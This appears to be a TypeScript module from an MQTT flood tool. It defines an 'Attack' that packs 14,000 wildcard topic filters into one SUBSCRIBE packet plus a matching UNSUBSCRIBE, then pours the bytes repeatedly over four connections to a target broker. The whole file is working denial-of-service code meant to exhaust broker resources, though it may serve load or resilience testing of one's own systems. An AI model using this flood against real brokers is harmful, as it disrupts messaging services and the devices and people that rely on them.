import mqttPacket from 'mqtt-packet'
import { type Attack, inLanes, openMqtt, pour } from '../flood.ts'

const CONNECTIONS = 4
const FILTERS = 14_000

export const filters: Attack = {
  about: 'subscribes to 14,000 filters in one packet, and unsubscribes again',
  start(target) {
    const names = Array.from({ length: FILTERS }, (_, index) => `f/+/${index}/#`)
    const options = { qos: 1, nl: false, rap: false, rh: 0 } as const
    const subscriptions = names.map((topic) => ({ topic, ...options }))
    const codec = { protocolVersion: 5 }
    const bytes = Buffer.concat([
      mqttPacket.generate({ cmd: 'subscribe', messageId: 1, subscriptions }, codec),
      mqttPacket.generate({ cmd: 'unsubscribe', messageId: 2, unsubscriptions: names }, codec),
    ])
    inLanes(CONNECTIONS, async (lane) =>
      pour(await openMqtt(target, { clientId: `filters-${lane}` }), () => bytes),
    )
  },
}
